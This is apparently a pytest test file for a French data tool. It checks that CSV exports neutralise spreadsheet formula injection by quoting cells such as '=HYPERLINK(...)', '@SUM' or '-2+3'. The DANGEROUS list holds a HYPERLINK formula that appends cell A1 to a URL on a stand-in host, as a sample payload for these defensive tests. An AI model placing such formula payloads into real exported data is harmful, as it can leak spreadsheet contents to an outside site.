"""A name a spreadsheet would run as a formula (``=HYPERLINK(…)``, ``@SUM(…)``, ``-2+3``…) is written
neutralised in the CSV outputs, as spreadsheet-safe exporters do (OWASP « CSV injection »); numbers stay
numbers, negative ones included (issue 12, item 7)."""

from __future__ import annotations

import csv

import pandas as pd
import pytest

from iae_impact.base.outputs import write_table
from iae_impact.cli import main

from .conftest import PARCOURS_HEADER, write_csv

DANGEROUS = ['=HYPERLINK("http://exemple.invalid/?"&A1;"clic")', "+33 1 23", "-2+3", "@SUM(1+1)",
             "\t=1+1", "\r=1+1"]


def _cells(path, sep: str, encoding: str) -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as fh:
        return list(csv.reader(fh, delimiter=sep))


@pytest.mark.parametrize(("suffix", "sep", "encoding"), [("", ",", "utf-8"), ("_fr", ";", "utf-8-sig")])
def test_text_cells_that_start_a_formula_are_prefixed_with_a_quote(tmp_path, suffix, sep, encoding):
    table = pd.DataFrame({"site": [*DANGEROUS, "Narbonne"], "solde": [-5, -1.5, 0, 2, 3, 4, 7],
                          "code": pd.Categorical(["=1"] * 7)})
    write_table(table, tmp_path, "t")
    rows = _cells(tmp_path / f"t{suffix}.csv", sep, encoding)
    assert [r[0] for r in rows[1:]] == ["'" + v for v in DANGEROUS] + ["Narbonne"]
    assert [r[2] for r in rows[1:]] == ["'=1"] * 7
    numbers = [r[1] for r in rows[1:]]
    assert numbers[:2] == (["-5.0", "-1.5"] if sep == "," else ["-5,0", "-1,5"])  # numbers are not text
    kept = pd.read_parquet(tmp_path / "t.parquet")
    pd.testing.assert_frame_equal(kept, table)  # the parquet file keeps the values as they are


def test_a_site_named_like_a_formula_reaches_the_cli_outputs_neutralised(tmp_path):
    site = '=HYPERLINK("http://exemple.invalid","clic")'
    rows = [f"P{i};A{i};Asso;{site if i % 2 else 'Bram'};ACI;{1 + i:02d}/01/2024;;;100" for i in range(10)]
    write_csv(tmp_path / "in", "parcours.csv", [PARCOURS_HEADER, *rows])
    out = tmp_path / "out"
    assert main(["indicateurs", str(tmp_path / "in"), "--out", str(out), "--seuil-secret", "1"]) == 0
    for name, sep, encoding in (("indicateurs_site.csv", ",", "utf-8"), ("indicateurs_site_fr.csv", ";", "utf-8-sig")):
        sites = {r[2] for r in _cells(out / name, sep, encoding)[1:]}
        assert sites == {"'" + site, "Bram"}, name
    text = (out / "indicateurs_site_fr.csv").read_text(encoding="utf-8-sig")
    assert not any(line.split(";")[2].startswith("=") for line in text.splitlines())
